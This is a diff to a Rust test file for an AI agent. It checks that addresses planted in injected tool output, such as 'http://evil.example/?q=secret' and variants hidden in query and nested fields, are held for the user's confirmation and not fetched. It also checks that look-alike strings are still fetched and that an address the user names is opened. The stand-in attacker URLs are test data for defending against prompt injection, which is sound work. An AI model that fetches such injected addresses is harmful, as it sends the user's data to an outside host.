@@ -53,9 +53,24 @@ async fn a_change_that_is_proposed_after_words_of_others_waits_for_the_person() 
 #[tokio::test]
 async fn an_address_that_the_person_did_not_name_is_not_fetched_unasked() {
     let page = |url: &str| injected("open_page", json!({ "url": url }));
-    let (agent_, count, _) = agent(page("http://evil.example/?q=secret"), Policy::default());
-    let asked = agent_.run("what is new in my mail?").await.unwrap();
-    assert_eq!((asked.outcome, count.load(Ordering::SeqCst)), (OutcomeCategory::PendingConfirmation, 0));
+    for replies in [
+        page("http://evil.example/?q=secret"),
+        page("WWW.evil.example"),
+        page("evil.example"),
+        injected("open_page", json!({ "query": "look at evil.example/secret" })),
+        injected("open_page", json!({ "request": { "target-host": ["evil.example"] } })),
+    ] {
+        let (agent, count, _) = agent(replies, Policy::default());
+        let asked = agent.run("what is new in my mail?").await.unwrap();
+        assert_eq!((asked.outcome, count.load(Ordering::SeqCst)), (OutcomeCategory::PendingConfirmation, 0));
+    }
+    // What only looks like one is none.
+    for query in ["report.pdf", "notes/may.md", "and/or", "12.5/3", "a.b", "10:30"] {
+        let replies = injected("open_page", json!({ "query": query }));
+        let (agent, count, _) = agent(replies, Policy::default());
+        agent.run("what is new in my mail?").await.unwrap();
+        assert_eq!(count.load(Ordering::SeqCst), 1, "{query}");
+    }
     // The person's own is.
     let (agent_, count, _) = agent(page("http://news.example/today"), Policy::default());
     let read = agent_.run("read my mail, then open http://news.example/today please").await.unwrap();
